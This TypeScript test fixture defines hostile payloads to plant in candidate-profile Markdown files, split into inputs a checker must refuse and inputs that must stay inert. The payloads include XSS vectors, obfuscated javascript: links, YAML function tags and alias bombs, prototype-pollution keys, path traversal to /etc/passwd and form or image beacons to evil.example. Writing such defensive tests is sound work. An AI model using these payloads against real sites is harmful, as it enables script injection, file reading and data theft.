/** Where a payload is planted in a copy of the sample content. */
const ROUND = 'programmes/weihai-chief-technician/rounds/2026';
const PERSON = `${ROUND}/candidates/gbnq6wn.md`;

export interface Payload {
  name: string;
  file: string;
  /** The file's new text from its old one; `undefined` content means a new file. */
  plant: (text: string) => string | Uint8Array;
  /** The file the finding names, where it is another than the planted one. */
  named?: string;
}

const frontMatter = (name: string, change: (text: string) => string | Uint8Array, file = PERSON): Payload => ({
  name,
  file,
  plant: change,
});
const field = (name: string, from: RegExp, to: string): Payload => frontMatter(name, (text) => text.replace(from, to));
const body = (name: string, markdown: string): Payload => ({
  name,
  file: PERSON,
  plant: (text) => `${text}\n${markdown}\n`,
});
const newFile = (name: string, file: string, content: string | Uint8Array = 'x'): Payload => ({
  name,
  file,
  plant: () => content,
});

/** Must be refused: check exits with findings that name the file. */
export const REFUSED: Payload[] = [
  frontMatter('front matter in JavaScript', (text) => text.replace('---', '---js')),
  frontMatter('front matter in JavaScript, spelt out, in capitals, with a space', (text) =>
    text.replace('---', '--- JavaScript'),
  ),
  frontMatter('front matter in JSON', (text) => text.replace('---', '---json')),
  frontMatter('an engine named after a method of every object', (text) => text.replace('---', '---constructor')),
  frontMatter('front matter in TOML', (text) => text.replace('---', '+++').replace('\n---\n', '\n+++\n')),
  frontMatter('a function by YAML tag', (text) =>
    text.replace('---\n', '---\nevil: !!js/function "function(){globalThis.evil=1}"\n'),
  ),
  frontMatter('an anchor and an alias', (text) => text.replace('---\n', '---\na: &a "x"\nb: *a\n')),
  frontMatter('an alias bomb', (text) => {
    const level = (n: number): string =>
      `l${n}: &l${n} [${Array(9)
        .fill(n === 0 ? '"lol"' : `*l${n - 1}`)
        .join(', ')}]\n`;
    return text.replace('---\n', `---\n${Array.from({ length: 9 }, (_, n) => level(n)).join('')}`);
  }),
  frontMatter('a merge key', (text) => text.replace('---\n', '---\n<<: {name: "x"}\n')),
  frontMatter('a key that reaches the prototype', (text) =>
    text.replace('---\n', '---\n__proto__: {polluted: "yes"}\n'),
  ),
  frontMatter('a key that nobody knows', (text) => text.replace('---\n', '---\nidNumber: "x"\n')),
  frontMatter('a key written twice', (text) => text.replace('---\n', '---\nname: "甲乙"\n')),
  frontMatter('brackets a thousand deep', (text) =>
    text.replace('---\n', `---\nx: ${'['.repeat(1000)}${']'.repeat(1000)}\n`),
  ),
  frontMatter('a file of 300 KB', (text) => text + '长'.repeat(100_000)),
  frontMatter('a byte order mark', (text) => `\uFEFF${text}`),
  frontMatter('UTF-16', (text) => new Uint8Array(Buffer.from(text, 'utf16le'))),
  frontMatter('a null character', (text) => text.replace('summary: "', 'summary: "\u0000')),
  frontMatter('text turned round by a bidirectional override', (text) =>
    text.replace('employer: "', 'employer: "\u202E'),
  ),
  frontMatter('a zero-width space in a name', (text) => text.replace('name: "王', 'name: "王\u200B')),
  field('a name with markup', /name: "王磊"/, 'name: "<img src=x onerror=evil=1>"'),
  field('a name from the private-use area', /name: "王磊"/, 'name: "王\uE000"'),
  { ...field('a name of another person', /name: "王磊"/, 'name: "王垒"'), named: `${ROUND}/roster.json` },
  body('a script', '<script>globalThis.evil=1</script>'),
  body('a script inside a sentence', '文字<script>globalThis.evil=1</script>文字'),
  body('a picture with a handler', '<img src=x onerror="globalThis.evil=1">'),
  body('a frame', '<iframe src="https://evil.example/"></iframe>'),
  body('an SVG with a handler', '<svg onload="globalThis.evil=1"></svg>'),
  body('a style block', '<style>*{background:url(https://evil.example/)}</style>'),
  body('a redirect', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
  body('a form', '<form action="https://evil.example/"><input name="id"></form>'),
  body('a comment', '<!-- hidden -->'),
  body('a javascript: link', '[点这里](javascript:globalThis.evil=1)'),
  body('a javascript: link behind entities', '[点这里](&#106;avascript&colon;globalThis.evil=1)'),
  body('a javascript: link in capitals with a tab', '[点这里](<JaVa\tScript:globalThis.evil=1>)'),
  body('a data: link', '[点这里](data:text/html;base64,PHNjcmlwdD5ldmlsPTE8L3NjcmlwdD4=)'),
  body('a vbscript: autolink', '<vbscript:evil>'),
  body('a link to a place on this site', '[点这里](/../../etc/passwd)'),
  body('a picture by address', '![x](https://evil.example/track.png)'),
  body('a link definition', '[x]: javascript:globalThis.evil=1\n\n[x]'),
  newFile(
    'an MDX file',
    `${ROUND}/candidates/abcdefg.mdx`,
    'import fs from "node:fs"\n\n{fs.readFileSync("/etc/passwd","utf8")}',
  ),
  newFile('an HTML file', `${ROUND}/evil.html`, '<script>evil=1</script>'),
  newFile(
    'an SVG among the photos',
    `${ROUND}/photos/gbnq6wn.svg`,
    '<svg xmlns="http://www.w3.org/2000/svg" onload="evil=1"/>',
  ),
  newFile('a script among the content', `${ROUND}/result.js`, 'globalThis.evil=1'),
  newFile('a server setting', `${ROUND}/candidates/.htaccess`, 'Options +ExecCGI'),
  newFile('an id that climbs', `${ROUND}/candidates/..%2f..%2fevil.md`),
  newFile('an id with a space', `${ROUND}/candidates/a b.md`),
  newFile('an id in Han characters', `${ROUND}/candidates/王磊.md`),
  newFile('a photo that is no picture', `${ROUND}/photos/gbnq6wn.jpg`, '<script>evil=1</script>'),
];

/** May be accepted as text, but must stay text: no active node, no script run. */
export const INERT: Payload[] = [
  field('markup in an employer', /post: "[^"]*"/, 'post: "<script>globalThis.evil=1</script>"'),
  field('a handler in a trade', /industry: "[^"]*"/, 'industry: "\\"><img src=x onerror=globalThis.evil=1>"'),
  field('a closing tag in a summary', /summary: "/, 'summary: "</script><script>globalThis.evil=1</script>'),
  field('a template expression', /mentoring: "/, 'mentoring: "{globalThis.evil=1} ${globalThis.evil=1} {{evil}} '),
  body('Markdown that looks like MDX', 'import x from "node:fs"\n\n{globalThis.evil=1}\n\nexport const y = 1'),
  body('escaped markup', '\\<script>globalThis.evil=1\\</script> &lt;img src=x onerror=globalThis.evil=1&gt;'),
];
